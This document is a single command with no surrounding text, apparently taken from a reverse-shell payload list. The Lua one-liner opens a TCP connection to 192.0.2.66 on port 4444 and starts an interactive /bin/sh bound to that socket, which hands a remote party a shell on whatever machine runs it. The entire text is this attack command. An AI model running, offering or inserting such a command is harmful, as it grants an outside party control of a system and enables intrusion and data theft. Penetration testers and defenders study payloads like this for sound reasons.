lua -e "require('socket');require('os');t=socket.tcp();t:connect('192.0.2.66','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"
